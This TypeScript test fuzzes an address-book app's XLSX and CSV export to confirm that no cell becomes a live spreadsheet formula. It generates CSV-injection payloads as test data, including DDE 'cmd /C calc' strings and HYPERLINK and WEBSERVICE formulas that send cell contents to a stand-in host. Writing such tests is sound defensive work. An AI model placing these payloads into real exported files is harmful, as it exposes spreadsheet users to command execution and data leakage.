import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { read } from 'xlsx';
import type {
  AddressBook,
  AddressBookEntry,
} from '../../electron/backend/address-books/address-book.ts';
import { writeBook } from '../../electron/backend/services/directory-export/write-book.ts';
import { Random, Tally, type Torture, type TortureOrder } from './torture.ts';
import { unpack } from './zip.ts';

const COLUMNS = ['name', 'position', 'department', 'unit', 'phones', 'mail', 'note'] as const;
const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '|', '%', '"=', "'="];
const BEFORE = ['', '', '', ' ', '  ', ' ', '　', '﻿', ' ​'];
const BODIES = [
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://x.test?"&A1,"Bấm vào đây")',
  'SUM(1+9)*cmd',
  '2+5',
  'DDE("cmd";"/C calc";"x")',
  'WEBSERVICE("http://x.test")',
  '84918123456',
  'Nguyễn Văn Á, "Ấp 3"; dòng\nhai',
];
const ROWS_IN_FILE = 250;
const STARTS_FORMULA = /^[\s​﻿]*[=+\-@＝＋－＠\t\r\0]/;

function hostile(random: Random): string {
  return `${random.pick(BEFORE)}${random.pick(STARTS)}${random.pick(BODIES)}`;
}

function bookOf(random: Random, rows: number): { book: AddressBook; cells: string[][] } {
  const cells = Array.from({ length: rows }, () => COLUMNS.map(() => hostile(random)));
  const entries = cells.map(
    (row): AddressBookEntry => ({
      localPart: 'x',
      kind: 'personal',
      name: row[0] ?? '',
      position: row[1] ?? '',
      department: row[2] ?? '',
      unit: row[3] ?? '',
      phones: [row[4] ?? ''],
      mail: row[5] ?? '',
      cells: row,
    }),
  );
  const columns = COLUMNS.map((header) => ({ header, width: 20, kind: 'text' as const }));
  const book = {
    title: hostile(random),
    notes: [],
    domain: 'x.test',
    columns,
    entries,
    changes: null,
  };
  return { book, cells };
}

/** Formulas that two readers see in a workbook: SheetJS, and the XML of the sheets as it stands. */
function formulasIn(bytes: Buffer): string[] {
  const found: string[] = [];
  const workbook = read(bytes, { type: 'buffer', cellFormula: true });
  for (const sheet of Object.values(workbook.Sheets))
    for (const [place, cell] of Object.entries(sheet))
      if (!place.startsWith('!') && (cell.f !== undefined || cell.l !== undefined))
        found.push(place);
  for (const xml of sheetsOf(bytes)) {
    if (/<f[ >/]/.test(xml)) found.push('<f>');
    if (/<hyperlink|<externalReference|ddeLink/i.test(xml)) found.push('link');
  }
  return found;
}

function sheetsOf(zip: Buffer): string[] {
  return unpack(zip)
    .filter(({ name }) => name.startsWith('xl/worksheets/'))
    .map(({ bytes }) => bytes.toString());
}

type Write = (path: string, format: 'xlsx' | 'csv', book: AddressBook) => Promise<unknown>;

async function torture(order: TortureOrder, write: Write) {
  const random = new Random(order.seed);
  const tally = new Tally(order);
  const folder = mkdtempSync(join(tmpdir(), 'danh-ba-formula-'));
  try {
    for (let done = 0; done < order.count; ) {
      const rows = Math.min(ROWS_IN_FILE, Math.ceil((order.count - done) / COLUMNS.length));
      const { book, cells } = bookOf(random, rows);
      const xlsx = join(folder, 'a.xlsx');
      await write(xlsx, 'xlsx', book);
      const formulas = formulasIn(readFileSync(xlsx));
      if (formulas.length > 0)
        tally.fail(`after ${done} cells: formulas at ${formulas.slice(0, 3)}`);
      const csv = join(folder, 'a.csv');
      await write(csv, 'csv', book);
      const text = readFileSync(csv, 'utf8').replace(/^﻿/, '');
      const { data } = Papa.parse<string[]>(text);
      if (data.length < rows + 1)
        tally.fail(`after ${done} cells: ${data.length} of ${rows + 1} lines`);
      cells.forEach((row, line) => {
        row.forEach((value, column) => {
          const kept = data[line + 1]?.[column] ?? '';
          if (STARTS_FORMULA.test(kept))
            tally.fail(`csv ${JSON.stringify(value)}: ${JSON.stringify(kept)}`);
          tally.count('fields in .xlsx and .csv');
          done++;
        });
      });
    }
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
  return tally.result();
}

/** A table written as most programs write it: what is typed is what stands there. */
const plainCsv: Write = async (path, format, book) => {
  if (format === 'xlsx') return writeBook(path, format, book);
  const lines = [...book.entries].map(({ cells }) => cells);
  writeFileSync(path, Papa.unparse([book.columns.map(({ header }) => header), ...lines]));
};

/** Everything a spreadsheet could take for a formula, in every field that leaves the register. */
export const formula: Torture = {
  title: 'formula signs in every exported field, read back by two readers',
  share: 1_750,
  aim: 50_000,
  run: (order) => torture(order, writeBook),
  twins: [
    {
      title: 'a table that is written as it was typed',
      count: 700,
      run: (order) => torture(order, plainCsv),
    },
    {
      title: 'a workbook with the cells of another library',
      count: 700,
      run: (order) =>
        torture(order, async (path, format, book) => {
          if (format === 'csv') return writeBook(path, format, book);
          const { utils, write } = await import('xlsx');
          const sheet = utils.aoa_to_sheet([...book.entries].map(({ cells }) => [...cells]));
          sheet.A1 = { t: 'n', f: 'SUM(1+9)' };
          writeFileSync(
            path,
            write(utils.book_new(sheet, 'x'), { type: 'buffer', bookType: 'xlsx' }),
          );
        }),
    },
  ],
};
